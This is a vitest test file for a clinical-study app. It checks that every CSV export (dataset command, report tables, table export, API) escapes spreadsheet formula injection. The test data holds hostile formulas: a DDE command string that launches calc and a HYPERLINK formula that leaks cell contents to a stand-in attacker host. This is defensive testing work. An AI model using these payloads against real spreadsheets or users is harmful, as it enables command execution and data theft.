// CSV formula injection (issue 12, OWASP CSV Injection): text from a study that a spreadsheet
// would run — imported pseudonyms and toxicity terms such as =cmd|' /C calc'!A0 or =HYPERLINK(…) —
// is neutralised in every CSV the app writes: the dataset (`rtcw dataset`, API), every table of
// `rtcw report`, and the table export.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvField, isFormulaLike } from '../../../shared/domain/csvField';
import { createStudy } from '../../../electron/services/db/studyFile';
import { listRecords, updateRecord } from '../../../electron/services/db/cohortRecords';
import { populateDemoStudy } from '../../../electron/services/analysis/demoStudy';
import { createApiRuntime } from '../../../electron/services/api/index';
import { typedPathChooser } from '../../../electron/harness/server';
import { rtcwSync } from './studyProcesses';

// (A leading tab or CR is trimmed by the cohort's validation before it is stored; csvField's own
// test covers them.)
const HOSTILE_PSEUDONYMS = ["=cmd|' /C calc'!A0", '@SUM(1+1)*cmd', '+1+2', '-2+3', '\uFF1DHYPERLINK()'];
const HOSTILE_TERM = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")';
let dir: string;
let study: string;

beforeAll(() => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'rtcw-csv-injection-'));
  study = path.join(dir, 'hostile.rtcw');
  const file = createStudy(study, { initialize: (db) => populateDemoStudy(db) });
  const patients = listRecords(file.db, 'patient');
  HOSTILE_PSEUDONYMS.forEach((pseudonym, i) => updateRecord(file.db, 'patient', patients[i].id as number, { pseudonym }));
  const [toxicity] = listRecords(file.db, 'toxicity');
  updateRecord(file.db, 'toxicity', toxicity.id as number, { term: HOSTILE_TERM });
  file.close();
});
afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

/** Every cell of a CSV text, as a spreadsheet program would split it. */
function cells(text: string): string[] {
  const parsed = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true });
  return parsed.data.flat();
}

function expectNeutral(name: string, text: string) {
  const dangerous = cells(text).filter(isFormulaLike);
  expect(dangerous, name).toEqual([]);
}

describe('CSV formula injection', () => {
  it('the one CSV writer neutralises formula starts and leaves numbers alone', () => {
    expect(csvField("=cmd|' /C calc'!A0")).toBe(`"'=cmd|' /C calc'!A0"`);
    expect(csvField('@SUM(A1)')).toBe(`"'@SUM(A1)"`);
    expect(csvField('\tx')).toBe(`"'\tx"`);
    expect(csvField('-2+3')).toBe(`"'-2+3"`);
    expect(csvField('=A1', 'NA')).toBe(`"'=A1"`);
    expect(csvField(-1.5)).toBe('-1.5');
    expect(csvField('-0.25')).toBe('-0.25');
    expect(csvField('+3e-5')).toBe('+3e-5');
    expect(csvField('a "quoted", text')).toBe('"a ""quoted"", text"');
    expect(csvField(null, 'NA')).toBe('NA');
    expect(csvField(Number.NaN)).toBe('');
  });

  it('rtcw dataset: the hostile pseudonyms are text, not formulas', () => {
    const r = rtcwSync('dataset', '--study', study);
    expect(r.code).toBe(0);
    expectNeutral('dataset', r.stdout);
    const all = cells(r.stdout);
    for (const p of HOSTILE_PSEUDONYMS) expect(all.some((c) => c.startsWith(`'${p}`))).toBe(true);
    // Numbers stay numbers: none got a quote.
    expect(all.some((c) => /^\d+(\.\d+)?$/.test(c))).toBe(true);
    expect(all.filter((c) => /^'[-+]?\d+(\.\d+)?$/.test(c))).toEqual([]);
  });

  it('rtcw report: every CSV table is neutral, and the toxicity term is kept as text', () => {
    const out = path.join(dir, 'report');
    const r = rtcwSync('report', '--study', study, '--out', out);
    expect(r.code).toBe(0);
    const csvs = fs.readdirSync(out).filter((f) => f.endsWith('.csv'));
    // One cox.csv (univariable and multivariable side by side) since issue 14's one analysis pipeline
    // replaced cox-univariate.csv and cox-multivariable.csv.
    expect(csvs).toEqual(expect.arrayContaining(['table1.csv', 'cox.csv', 'first-failure.csv', 'toxicity.csv', 'survival.csv', 'dataset.csv']));
    for (const name of csvs) expectNeutral(name, fs.readFileSync(path.join(out, name), 'utf8'));
    expect(cells(fs.readFileSync(path.join(out, 'toxicity.csv'), 'utf8'))).toContain(`'${HOSTILE_TERM}`);
    expect(cells(fs.readFileSync(path.join(out, 'dataset.csv'), 'utf8'))).toContain(`'${HOSTILE_PSEUDONYMS[0]}`);
  });

  it('exportTable CSV (every table) and the API dataset are neutral', async () => {
    const service = createApiRuntime({ userDataDir: path.join(dir, 'ud'), choosePath: typedPathChooser(dir), logError: () => {} });
    try {
      expect((await service.call('openStudy', { path: study, readOnly: true })).ok).toBe(true);
      const spec = { endpoint: 'local' as const, groupBy: 'concurrent' };
      for (const table of ['table1', 'cox', 'firstFailure', 'toxicity'] as const) {
        const target = path.join(dir, `export-${table}.csv`);
        const r = await service.call('exportTable', { spec, table, format: 'csv', path: target });
        expect(r.ok).toBe(true);
        expectNeutral(table, fs.readFileSync(target, 'utf8'));
      }
      expect(cells(fs.readFileSync(path.join(dir, 'export-toxicity.csv'), 'utf8'))).toContain(`'${HOSTILE_TERM}`);
      const dataset = await service.call('cohortDataset', { unit: 'lesion' });
      expect(dataset.ok).toBe(true);
      if (dataset.ok) expectNeutral('cohortDataset', (dataset.result as { csv: string }).csv);
    } finally {
      service.session.dispose();
    }
  });
});
